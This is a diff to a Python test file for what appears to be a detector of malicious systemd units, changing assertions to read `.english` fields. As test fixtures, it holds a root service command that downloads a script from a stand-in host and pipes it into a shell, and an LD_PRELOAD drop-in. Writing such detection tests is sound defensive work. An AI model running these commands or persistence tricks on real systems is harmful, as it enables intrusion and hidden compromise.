@@ -34,18 +34,18 @@ def unit(*commands, path="/etc/systemd/system/x.service", **values):
 def test_points_at(command):
     (sign,) = signs(unit("ExecStart=/bin/true", command))
     assert sign.severity is Severity.HIGH
-    assert "as root" in sign.why
+    assert "as root" in sign.why.english
 
 
 def test_points_at_a_library_in_the_environment():
     (sign,) = signs(unit(environment=("Environment=LD_PRELOAD=/lib/x.so",), drop_in=True))
-    assert sign.title == "A drop-in of systemd puts a library into every program"
+    assert sign.title.english == "A drop-in of systemd puts a library into every program"
 
 
 def test_points_at_a_timers_service():
     timer = unit(path="/etc/systemd/system/x.timer", unit="x.timer", type="timer")
     (sign,) = signs(timer, unit("ExecStart=sh -c 'wget -O- http://a.example/x|sh'"))
-    assert "set off by x.timer" in sign.why
+    assert "set off by x.timer" in sign.why.english
 
 
 @pytest.mark.parametrize(
